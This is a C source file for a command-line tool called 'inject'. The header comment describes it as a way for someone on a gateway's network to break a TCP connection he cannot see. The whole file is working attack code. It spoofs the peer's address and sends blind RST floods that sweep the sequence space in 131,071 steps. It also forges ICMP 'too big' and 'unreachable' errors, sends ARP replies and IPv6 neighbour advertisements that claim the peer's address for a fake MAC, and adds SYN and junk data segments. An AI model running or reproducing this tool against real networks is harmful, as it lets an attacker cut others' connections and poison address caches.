/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Somebody on one of the gateway's networks who wants a connection broken that he can't see. He knows its addresses and
 * ports, and sends, in the name of the gateway's peer:
 *
 *	inject INTERFACE GATEWAY_MAC FRAMES RATE FROM TO
 *
 * FROM and TO are "192.0.2.10:50000" or "[2001:db8::1]:443"; RATE is in frames a second, at most. Nearly three in four
 * are RSTs, 131,071 sequence numbers apart, so that 45,000 frames go once round the whole space and meet each window of
 * 128 kB. The others: SYNs; ICMP errors, "too big" and "unreachable", about a segment of the gateway's; claims by ARP
 * or neighbour advertisement that FROM is at his own MAC; a few data and FINs. All other numbers are guessed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	ETHERNET = 14,
	FRAME_MAX = 256,
	RST_STEP = 131071,
	FIN = 0x01,
	SYN = 0x02,
	RST = 0x04,
	PSH = 0x08,
	ACK = 0x10,
	TCP = 6,
	ICMP = 1,
	ICMP6 = 58,
	JUNK = 64,
	QUOTED = 20
};

struct end {
	uint8_t addr[16]; /* four bytes of IPv4 */
	uint16_t port;
};

static struct {
	int socket;
	bool v4;
	uint8_t own_mac[6], gateway_mac[6];
	struct end from, to;
} setup;

static void
die(const char *what)
{
	perror(what);
	exit(1);
}

static uint32_t
guess(void)
{
	static uint64_t state;

	if (state == 0 && getrandom(&state, sizeof(state), 0) != sizeof(state))
		die("getrandom");
	state = state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
	return (uint32_t)(state >> 32);
}

static void
put_16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void
put_32(uint8_t *at, uint32_t value)
{
	put_16(at, value >> 16);
	put_16(at + 2, value);
}

static uint32_t
sum_of(uint32_t sum, const uint8_t *bytes, size_t length)
{
	for (size_t i = 0; i < length; i++)
		sum += i % 2 == 0 ? (uint32_t)bytes[i] << 8 : bytes[i];
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

static size_t
address_length(void)
{
	return setup.v4 ? 4 : 16;
}

static size_t
put_ip(uint8_t *ip, const struct end *source, const struct end *destination, uint8_t protocol, size_t length)
{
	size_t header = setup.v4 ? 20 : 40;

	memset(ip, 0, header);
	if (setup.v4) {
		ip[0] = 0x45;
		put_16(ip + 2, (uint32_t)(header + length));
		ip[6] = 0x40;
		ip[8] = 64;
		ip[9] = protocol;
	} else {
		ip[0] = 0x60;
		put_16(ip + 4, (uint32_t)length);
		ip[6] = protocol;
		ip[7] = 255;
	}
	memcpy(ip + header - 2 * address_length(), source->addr, address_length());
	memcpy(ip + header - address_length(), destination->addr, address_length());
	if (setup.v4)
		put_16(ip + 10, ~sum_of(0, ip, header));
	return header;
}

/* Fills in the checksum of what follows an IP header. */
static void
finish(const uint8_t *ip, uint8_t *body, uint8_t protocol, size_t length)
{
	uint8_t *at = body + (protocol == TCP ? 16 : 2);
	uint32_t sum = 0;

	if (protocol != ICMP)
		sum = sum_of(protocol + (uint32_t)length, ip + (setup.v4 ? 12 : 8), 2 * address_length());
	put_16(at, 0);
	put_16(at, ~sum_of(sum, body, length));
}

static void
transmit(uint8_t *frame, size_t length, const uint8_t *to, uint16_t type)
{
	memcpy(frame, to, 6);
	memcpy(frame + 6, setup.own_mac, 6);
	put_16(frame + 12, type);
	if (send(setup.socket, frame, length, 0) < 0 && errno != ENOBUFS)
		die("send");
}

static void
put_tcp(uint8_t *tcp, const struct end *source, const struct end *destination, uint8_t flags, uint32_t seq,
	uint32_t ack)
{
	memset(tcp, 0, 20);
	put_16(tcp, source->port);
	put_16(tcp + 2, destination->port);
	put_32(tcp + 4, seq);
	put_32(tcp + 8, ack);
	tcp[12] = 0x50;
	tcp[13] = flags;
	put_16(tcp + 14, guess());
}

static void
send_tcp(uint8_t flags, uint32_t seq, uint32_t ack, size_t payload)
{
	uint8_t frame[FRAME_MAX] = {0}, *ip = frame + ETHERNET;
	uint8_t *tcp = ip + put_ip(ip, &setup.from, &setup.to, TCP, 20 + payload);

	put_tcp(tcp, &setup.from, &setup.to, flags, seq, ack);
	finish(ip, tcp, TCP, 20 + payload);
	transmit(frame, (size_t)(tcp - frame) + 20 + payload, setup.gateway_mac, setup.v4 ? 0x0800 : 0x86dd);
}

static void
send_icmp(bool too_big)
{
	uint8_t frame[FRAME_MAX] = {0}, *ip = frame + ETHERNET, protocol = setup.v4 ? ICMP : ICMP6;
	size_t length = 8 + (setup.v4 ? 20 : 40) + QUOTED;
	uint8_t *icmp = ip + put_ip(ip, &setup.from, &setup.to, protocol, length);

	icmp[0] = setup.v4 ? 3 : too_big ? 2 : 1;
	icmp[1] = setup.v4 && too_big ? 4 : 0;
	if (too_big)
		put_16(icmp + 6, setup.v4 ? 68 : 1280);
	uint8_t *quoted = icmp + 8;
	quoted += put_ip(quoted, &setup.to, &setup.from, TCP, 1400);
	put_tcp(quoted, &setup.to, &setup.from, ACK, guess(), guess());
	finish(ip, icmp, protocol, length);
	transmit(frame, (size_t)(icmp - frame) + length, setup.gateway_mac, setup.v4 ? 0x0800 : 0x86dd);
}

/* An ARP reply or announcement, or a neighbour advertisement with "override", to the gateway alone. */
static void
send_claim(bool solicited)
{
	uint8_t frame[FRAME_MAX] = {0}, *body = frame + ETHERNET;

	if (setup.v4) {
		memcpy(body, (const uint8_t[8]){0, 1, 8, 0, 6, 4, 0, 2}, 8);
		memcpy(body + 8, setup.own_mac, 6);
		memcpy(body + 14, setup.from.addr, 4);
		memcpy(body + 18, setup.gateway_mac, 6);
		memcpy(body + 24, (solicited ? setup.to : setup.from).addr, 4);
		transmit(frame, ETHERNET + 28, setup.gateway_mac, 0x0806);
		return;
	}
	uint8_t *icmp = body + put_ip(body, &setup.from, &setup.to, ICMP6, 32);
	icmp[0] = 136;
	icmp[4] = solicited ? 0x60 : 0x20;
	memcpy(icmp + 8, setup.from.addr, 16);
	icmp[24] = 2;
	icmp[25] = 1;
	memcpy(icmp + 26, setup.own_mac, 6);
	finish(body, icmp, ICMP6, 32);
	transmit(frame, ETHERNET + 40 + 32, setup.gateway_mac, 0x86dd);
}

static void
act(uint64_t turn)
{
	static uint32_t reset;

	switch (turn % 16) {
	case 0:
		send_tcp(SYN, guess(), 0, 0);
		return;
	case 4:
		send_icmp(true);
		return;
	case 7:
		send_icmp(false);
		return;
	case 10:
		send_claim(turn / 16 % 2 != 0);
		return;
	case 13:
		if (turn / 16 % 4 == 0) {
			send_tcp(turn / 64 % 2 != 0 ? ACK | FIN : ACK | PSH, guess(), guess(), JUNK);
			return;
		}
		break;
	default:
		break;
	}
	send_tcp(RST, reset += RST_STEP, 0, 0);
}

static bool
parse_end(char *text, struct end *end)
{
	char *colon = strrchr(text, ':'), *host = text;

	if (colon == NULL)
		return false;
	*colon = 0;
	end->port = (uint16_t)strtoul(colon + 1, NULL, 10);
	if (host[0] == '[') {
		host++;
		host[strlen(host) - 1] = 0;
	}
	setup.v4 = strchr(host, ':') == NULL;
	return inet_pton(setup.v4 ? AF_INET : AF_INET6, host, end->addr) == 1;
}

static void
open_socket(const char *interface)
{
	struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface)};
	struct ifreq request = {0};

	setup.socket = socket(AF_PACKET, SOCK_RAW, 0);
	if (setup.socket < 0 || bind(setup.socket, (struct sockaddr *)&address, sizeof(address)) != 0)
		die(interface);
	strncpy(request.ifr_name, interface, IFNAMSIZ - 1);
	if (ioctl(setup.socket, SIOCGIFHWADDR, &request) != 0)
		die(interface);
	memcpy(setup.own_mac, request.ifr_hwaddr.sa_data, 6);
	setup.own_mac[5] ^= 0x66; /* another station's than the one whose interface it is */
}

static double
now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	uint8_t *mac = setup.gateway_mac;

	if (argc != 7 ||
	    sscanf(argv[2], "%2hhx:%2hhx:%2hhx:%2hhx:%2hhx:%2hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) !=
		    6 ||
	    !parse_end(argv[5], &setup.from) || !parse_end(argv[6], &setup.to)) {
		fputs("usage: inject INTERFACE GATEWAY_MAC FRAMES RATE FROM TO\n", stderr);
		return 2;
	}
	open_socket(argv[1]);
	uint64_t frames = strtoull(argv[3], NULL, 10), sent = 0;
	double rate = strtod(argv[4], NULL), begin = now();
	while (sent < frames) {
		for (uint64_t due = (uint64_t)((now() - begin) * rate); sent < due && sent < frames; sent++)
			act(sent);
		usleep(1000);
	}
	printf("%llu frames in %.1f s\n", (unsigned long long)sent, now() - begin);
	return 0;
}
